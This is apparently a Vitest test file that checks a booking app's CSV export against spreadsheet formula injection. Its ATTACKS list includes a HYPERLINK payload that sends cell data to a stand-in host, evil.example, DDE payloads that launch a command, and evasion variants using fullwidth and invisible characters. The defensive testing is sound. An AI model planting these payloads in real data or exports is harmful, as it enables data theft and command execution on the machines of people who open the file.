import { beforeAll, describe, expect, it } from 'vitest';
import { TEXT_LIMITS } from '../../src/contract/limits.js';
import { download, lineOf } from '../support/export.js';
import { book } from '../support/records.js';
import { shareServer } from '../support/shared-server.js';

const server = shareServer({}, { restoreAfter: 'file' });

describe('CSV export: text typed by visitors is never a formula', () => {
  const FIELDS = [
    ['firstName', 'First Name'],
    ['lastName', 'Last Name'],
    ['phone', 'Phone'],
    ['instagram', 'Instagram'],
    ['location', 'Location'],
    ['flavourPreferences', 'Preferred Shisha Flavours'],
    ['specialRequirements', 'Special Requirements'],
  ] as const;
  const ATTACKS = [
    '=HYPERLINK("https://evil.example?"&A2,"Open")',
    "=1+cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '＝IMPORTXML(1,2)',
    '＋1+1111111',
    '－1+1111111',
    '＠SUM(1+111)',
    '\u200b=1+1111111',
    '\u200e\u00ad=1+11111',
    '"=1+1;"=1+1111',
    "Ada;=cmd|'/C calc'!A0;",
    'Ada\t=1+111111',
    'Ada\n=1+111111',
    'Ada\r\n "=1+11111',
    'Ada,=1+1,"\n=1+1',
  ];
  const FORMULA = /^[\s\p{Cf}"]*[=+\-@＝＋－＠]/u;

  beforeAll(async () => {
    for (const attack of ATTACKS) {
      const everywhere = Object.fromEntries(FIELDS.map(([name]) => [name, attack]));
      const phone = attack.slice(0, TEXT_LIMITS.phone);
      await book(server.visitor, { ...everywhere, phone, email: 'ada@attack.example' });
    }
    for (const email of ['=1+1@attack.example', '+1@attack.example', '-1@attack.example'])
      await book(server.visitor, { email });
  });

  it('in any cell, when split by commas', async () => {
    const { lines } = await download(server, '?q=attack.example');
    expect(lines).toHaveLength(ATTACKS.length + 3);
    const found = lines.flatMap(Object.values).filter((cell: string) => FORMULA.test(cell));
    expect(found).toEqual([]);
  });

  it.each([
    ['', /[;\t\r\n]/],
    ['&decimals=comma', /[,\t\r\n]/],
  ])('%s in any cell, when split by another separator', async (more, separator) => {
    const { bytes } = await download(server, `?q=attack.example${more}`);
    const pieces = bytes.toString().split(separator);
    expect(pieces.length).toBeGreaterThan(2 * ATTACKS.length);
    expect(pieces.filter((piece) => FORMULA.test(piece))).toEqual([]);
  });

  it('in any cell of a file for countries that write a comma in numbers', async () => {
    const { lines } = await download(server, '?q=attack.example&decimals=comma');
    expect(lines).toHaveLength(ATTACKS.length + 3);
    const found = lines.flatMap(Object.values).filter((cell: string) => FORMULA.test(cell));
    expect(found).toEqual([]);
  });

  it.each(FIELDS)('%s: the typed text after an apostrophe', async (field, title) => {
    await book(server.visitor, { [field]: '=1+1111111', email: `${field}@one.example` });
    expect((await lineOf(server, `${field}@one.example`))[title]).toBe("'=1+1111111");
  });

  it('the e-mail address: after an apostrophe, too', async () => {
    expect((await lineOf(server, '=1+1@attack.example'))['Email']).toBe("'=1+1@attack.example");
  });
});
